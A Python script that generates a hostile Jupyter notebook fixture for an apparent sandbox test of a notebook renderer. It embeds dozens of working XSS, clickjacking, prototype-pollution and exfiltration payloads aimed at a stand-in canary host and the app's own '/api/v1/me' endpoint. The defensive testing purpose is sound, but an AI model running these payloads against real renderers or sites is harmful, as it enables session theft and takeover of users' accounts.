"""Write `fixtures/notebooks/hostile.ipynb`: what a stranger's notebook could try (issue 3).

    python tools/write_hostile.py

Script in every MIME type, in Markdown, metadata, attachments and errors; links that run;
names that stand in for the page's own; forms; navigation; drawings with code in them. Every
attempt calls `http://canary.invalid`, which `tests/e2e/test_hostile_notebook.py` replaces
by a socket that counts. Each code cell shows, when run, what is stored under it.
"""

import base64
import json
from pathlib import Path
from typing import Any

TARGET = Path(__file__).parent.parent / "fixtures" / "notebooks" / "hostile.ipynb"
CANARY = "http://canary.invalid"
OURS = "/api/v1/me?stolen"

ATTACK = f"""
(() => {{
  const attempt = (act) => {{ try {{ act(); }} catch (problem) {{ /* a wall held */ }} }};
  attempt(() => {{ globalThis.__owned = 1; }});
  attempt(() => {{ top.__owned = 1; }});
  attempt(() => {{ parent.document.title = "owned"; }});
  attempt(() => {{ localStorage.setItem("owned", document.cookie); }});
  attempt(() => {{ indexedDB.open("owned"); }});
  for (const to of ["{CANARY}/?fetch", "{OURS}"]) {{
    attempt(() => fetch(to, {{credentials: "include"}}).catch(() => 0));
    attempt(() => {{ const ask = new XMLHttpRequest(); ask.open("POST", to); ask.send("x"); }});
    attempt(() => navigator.sendBeacon(to, "x"));
    attempt(() => {{ new Image().src = to; }});
    attempt(() => {{ new EventSource(to); }});
    attempt(() => {{ new WebSocket(new URL(to, location.href).href.replace("http", "ws")); }});
    attempt(() => {{ new Worker(to); }});
    attempt(() => {{ window.open(to); }});
    attempt(() => {{ top.location = to; }});
    attempt(() => {{ parent.location.href = to; }});
    attempt(() => import(to).catch(() => 0));
    for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload",
                       "stylesheet", "manifest", "icon", "prerender"]) {{
      attempt(() => {{
        const link = document.createElement("link");
        link.rel = rel; link.href = to; link.as = "script";
        document.head.append(link);
      }});
    }}
    attempt(() => {{
      const form = document.createElement("form");
      form.method = "post"; form.action = to; form.target = "_top";
      document.documentElement.append(form); form.submit();
    }});
    attempt(() => {{
      const frame = document.createElement("iframe");
      frame.src = to; document.documentElement.append(frame);
    }});
    attempt(() => {{
      const style = document.createElement("style");
      style.textContent = `@import "${{to}}"; @font-face {{font-family: o; src: url(${{to}})}}
        * {{background: url(${{to}}); font-family: o}}`;
      document.documentElement.append(style);
    }});
  }}
  attempt(() => {{
    const {{host}} = new URL("{CANARY}");
    const peer = new RTCPeerConnection({{iceServers: [
      {{urls: `stun:${{host}}`}},
      {{urls: `turn:${{host}}?transport=tcp`, username: "a", credential: "b"}}]}});
    peer.createDataChannel("owned");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  }});
  attempt(() => {{ alert("owned"); }});
  attempt(() => {{ print(); }});
  attempt(() => {{ document.documentElement.requestFullscreen(); }});
  attempt(() => {{ navigator.serviceWorker.register("/owned.js").catch(() => 0); }});
  attempt(() => {{ navigator.clipboard.writeText("owned").catch(() => 0); }});
  attempt(() => {{ new Notification("owned"); }});
  for (const said of [{{kind: "run-cells", cell_ids: ["js"]}}, {{kind: "height", px: 1e9}},
                      {{kind: "link", href: "{OURS}"}}, "tailrace-port", null]) {{
    attempt(() => {{ parent.postMessage(said, "*"); }});
    attempt(() => {{ top.postMessage(said, "*", [new MessageChannel().port1]); }});
  }}
  const speak = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (...words) {{
    attempt(() => speak.call(this, {{kind: "link", href: location.origin + "{OURS}"}}));
    attempt(() => speak.call(this, {{kind: "link", href: "javascript:top.__owned=1"}}));
    attempt(() => speak.call(this, {{__proto__: {{kind: "owned"}}, kind: "constructor"}}));
    return speak.apply(this, words);
  }};
}})();
"""
RUN = "try{top.__owned=1}catch(e){};globalThis.__owned=1;fetch('" + CANARY + "/?inline')"
MARKUP = f"""
<p id="shown">shown</p>
<script>{ATTACK}</script>
<script src="{CANARY}/?src"></script>
<script src="{OURS}"></script>
<script type="module">import "{CANARY}/?module"</script>
<img src=x onerror="{RUN}"><img src="{CANARY}/?img"><img src="{OURS}">
<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>
<body onload="{RUN}"><details open ontoggle="{RUN}"><summary>press</summary></details>
<iframe src="javascript:{RUN}"></iframe><iframe src="{CANARY}/?frame"></iframe>
<iframe src="{OURS}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>
<object data="{CANARY}/?object"></object><embed src="{OURS}">
<link rel=stylesheet href="{CANARY}/?css"><link rel=preconnect href="{CANARY}">
<link rel=dns-prefetch href="{CANARY}"><link rel=prefetch href="{CANARY}/?prefetch">
<base href="{CANARY}/"><meta http-equiv=refresh content="1;url={CANARY}/?refresh">
<style>@import "{CANARY}/?import"; input[value^=a] {{ background: url({CANARY}/?css-secret) }}
.cover {{ position: fixed; inset: 0; z-index: 2147483647; opacity: .01 }}</style>
<form action="{OURS}" method=post target=_top><input name=body value=abc>
<button type=submit>send</button></form>
<form name=body id=documentElement><input name=head><input id=cookie></form>
<a id=js href="javascript:{RUN}">run</a>
<a id=data href="data:text/html,<script>{RUN}</script>" target=_top>data</a>
<a id=api href="{OURS}" target=_top>api</a><a href="{OURS}" download>file</a>
<a href="{OURS}" ping="{CANARY}/?ping">ping</a>
<div data-cell-id="js" data-active class="cell notices" tabindex=0 accesskey=x>a cell</div>
<div class=cover onclick="{RUN}"></div>
<audio src="{CANARY}/?audio" autoplay></audio><video poster="{CANARY}/?poster"></video>
<script type=speculationrules>
{{"prefetch": [{{"source": "list", "urls": ["{CANARY}/?rule"]}}]}}</script>
"""
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="120" height="40" onload="{RUN}"><script>{RUN}</script><rect width="120" height="40"/>
<foreignObject width="100" height="30"><body xmlns="http://www.w3.org/1999/xhtml">
<img src="x" onerror="{RUN}"/><iframe src="{OURS}"></iframe></body></foreignObject>
<a xlink:href="javascript:{RUN}"><text y="20">press</text></a>
<image href="{CANARY}/?svg-image" width="9" height="9"/><use href="{CANARY}/?use#x"/>
<set attributeName="href" to="javascript:{RUN}"/></svg>"""
LINKS = "\n".join(
    f"[{n}]({target})"
    for n, target in enumerate(
        [
            f"javascript:{RUN}".replace(" ", ""),
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:x",
            "file:///etc/passwd",
            "blob:null/1",
            "../../api/v1/me",
            "/api/v1/logout",
        ]
    )
)
DRAWN = base64.b64encode(DRAWING.encode()).decode()
PROSE = f"""# Title <img src=x onerror="{RUN}">

{MARKUP}

{LINKS} <{f"javascript:{RUN}".replace(" ", "")}>

![x]({CANARY}/?picture) ![x](data:image/svg+xml;base64,{DRAWN})
![x" onerror="{RUN}](attachment:a.svg) ![x](attachment:b.png) ![x](../../api/v1/me)
![x](/api/v1/me.png)

[ref]: javascript:alert(1) "x"
[ref]

$\\href{{javascript:{RUN}}}{{x}} \\url{{javascript:x}} \\htmlId{{app}}{{y}}$
$\\includegraphics{{{CANARY}/?tex}}$

$$\\html@mathml{{<img src=x onerror="{RUN}">}}{{x}}$$

```mermaid
graph LR
  A["<img src=x onerror='{RUN}'>"] --> B
  click A call alert("owned")
  click B href "javascript:{RUN}"
```

```mermaid
%%{{init: {{"securityLevel": "loose", "theme": "base", "__proto__": {{"owned": 1}},
 "themeCSS": "* {{ background: url({CANARY}/?theme) }}"}}}}%%
graph LR
  C --> D["<script>{RUN}</script>"]
```

```python"><img src=x onerror="{RUN}">
x = "</code><script>{RUN}</script>"
```

| <script>{RUN}</script> | <a href="javascript:{RUN}">x</a> |
|---|---|
| <img src=x onerror="{RUN}"> | [^1] |

[^1]: <img src=x onerror="{RUN}">
"""
WALK = f"javascript:{RUN}"
VEGA: dict[str, Any] = {
    "width": 60,
    "height": 40,
    "usermeta": {"embedOptions": {"actions": True, "loader": {"target": "_top"}}},
    "data": [{"name": "t", "url": f"{CANARY}/?vega"}, {"name": "u", "url": OURS}],
    "signals": [
        {
            "name": "s",
            "update": "constructor.constructor('top.__owned=1')()",
        }
    ],
    "marks": [
        {
            "type": "text",
            "encode": {
                "update": {"text": {"value": "press"}, "href": {"value": WALK}},
            },
        },
        {"type": "image", "encode": {"enter": {"url": {"value": f"{CANARY}/?vega-image"}}}},
    ],
}
PLOTLY: dict[str, Any] = {
    "data": [
        {
            "type": "bar",
            "x": [f"<a href='{WALK}'>press</a>", f"<img src=x onerror={RUN!r}>"],
            "y": [1, 2],
            "text": [f"<script>{RUN}</script>", "x"],
        }
    ],
    "layout": {
        "title": {"text": f"<a href='{WALK}'>press</a>"},
        "images": [{"source": f"{CANARY}/?plotly", "sizex": 1, "sizey": 1}],
        "template": {"__proto__": {"owned": 1}},
        "height": 150,
    },
    "config": {"plotlyServerURL": CANARY, "showSendToCloud": True, "showLink": True},
}
TABLE: dict[str, Any] = {
    "handle": "../../me",
    "columns": [{"name": f"<img src=x onerror={RUN!r}>", "type": "text"}],
    "rows": [[f"<script>{RUN}</script>"]],
}
BUNDLES: dict[str, Any] = {
    "text/html": MARKUP,
    "image/svg+xml": DRAWING,
    "application/javascript": ATTACK,
    "text/markdown": PROSE,
    "text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$ <img src=x onerror='{RUN}'>",
    "text/plain": f"<script>{RUN}</script> javascript:x \x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "application/json": {f"<img src=x onerror={RUN!r}>": {"__proto__": {"x": f"<script>{RUN}"}}},
    "application/geo+json": {"type": f"<script>{RUN}</script>"},
    "application/vnd.vega.v5+json": VEGA,
    "application/vnd.vegalite.v5+json": {
        "data": {"url": f"{CANARY}/?vegalite"},
        "mark": {"type": "text", "href": WALK},
        "encoding": {"text": {"value": "x"}, "href": {"value": WALK}},
    },
    "application/vnd.plotly.v1+json": PLOTLY,
    "application/vnd.tailrace.table+json": TABLE,
    "application/vnd.jupyter.widget-view+json": {"model_id": f'"><script>{RUN}</script>'},
    "application/vnd.unknown+json": {"x": f"<script>{RUN}</script>"},
    "application/pdf": base64.b64encode(
        f"%PDF-1.4 1 0 obj<</OpenAction<</S/JavaScript/JS({RUN})>>>>endobj".encode()
    ).decode(),
    "image/png": f'x" onerror="{RUN}',
    "image/gif": base64.b64encode(f"GIF89a/*<script>{RUN}</script>*/".encode()).decode(),
    "audio/wav": base64.b64encode(b"<script>top.__owned=1</script>").decode(),
    'video/mp4"><script>': "x",
    f"text/x-<script>{RUN}</script>": "x",
}
STREAM = f"<script>{RUN}</script><img src=x onerror='{RUN}'> javascript:{RUN}\n"


def source_of(bundle: dict[str, Any]) -> str:
    return f"from IPython.display import display\ndisplay({bundle!r}, raw=True)"


def cells() -> list[dict[str, Any]]:
    metadata: dict[str, Any] = {
        "name": f"<script>{RUN}</script>",
        "tags": [f"<img src=x onerror={RUN!r}>"],
        "jupyter": {"outputs_hidden": False, "__proto__": {"source_hidden": True}},
        "__proto__": {"polluted": 1},
        "execution": {"iopub.status.busy": f"<script>{RUN}</script>"},
    }
    made: list[dict[str, Any]] = [
        {
            "cell_type": "markdown",
            "id": "prose",
            "metadata": metadata,
            "source": PROSE,
            "attachments": {
                "a.svg": {"image/svg+xml": DRAWN},
                "b.png": {
                    "image/png": f'x" onerror="{RUN}',
                    "text/html": MARKUP,
                },
                f"<img src=x onerror={RUN!r}>": {"text/html": MARKUP},
            },
        },
        {"cell_type": "raw", "id": "raw", "metadata": metadata, "source": MARKUP},
    ]
    for number, (mime, value) in enumerate(BUNDLES.items()):
        bundle = {mime: value}
        output = {
            "output_type": "display_data",
            "data": bundle,
            "metadata": {mime: {"width": f'1" onload="{RUN}', "height": 9e9}},
        }
        made.append(code(f"mime-{number}", source_of(bundle), [output], metadata))
    for where in (OURS, "/frame.html?opened", f"{CANARY}/?leave", "javascript:1", "about:srcdoc"):
        bundle = {"text/html": f"<script>location.href = {where!r}</script>"}
        output = {"output_type": "display_data", "data": bundle, "metadata": {}}
        name = f"leaves-{len(made)}"
        made.append(code(name, source_of(bundle), [output], {}))
    said: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stdout", "text": STREAM},
        {
            "output_type": "error",
            "ename": f"<script>{RUN}</script>",
            "evalue": f"<img src=x onerror='{RUN}'>",
            "traceback": [f"Cell In[1], line 1\n<script>{RUN}</script>", STREAM],
        },
    ]
    told = f"print({STREAM!r})\nraise type({said[1]['ename']!r}, (Exception,), {{}})({STREAM!r})"
    made.append(code("told", told, said, {}))
    return made


def code(
    name: str, source: str, outputs: list[dict[str, Any]], metadata: dict[str, Any]
) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "id": name,
        "metadata": metadata,
        "outputs": outputs,
        "source": source,
    }


def main() -> None:
    notebook = {
        "cells": cells(),
        "metadata": {
            "kernelspec": {
                "display_name": f"<script>{RUN}</script>",
                "name": "python3",
                "language": f"<img src=x onerror={RUN!r}>",
            },
            "title": f"<script>{RUN}</script>",
            "tailrace": {"output_network": True, "output_network_for": ["*"]},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    text = json.dumps(notebook, indent=1, sort_keys=True, ensure_ascii=False)
    TARGET.write_text(text + "\n", "utf-8")


if __name__ == "__main__":
    main()
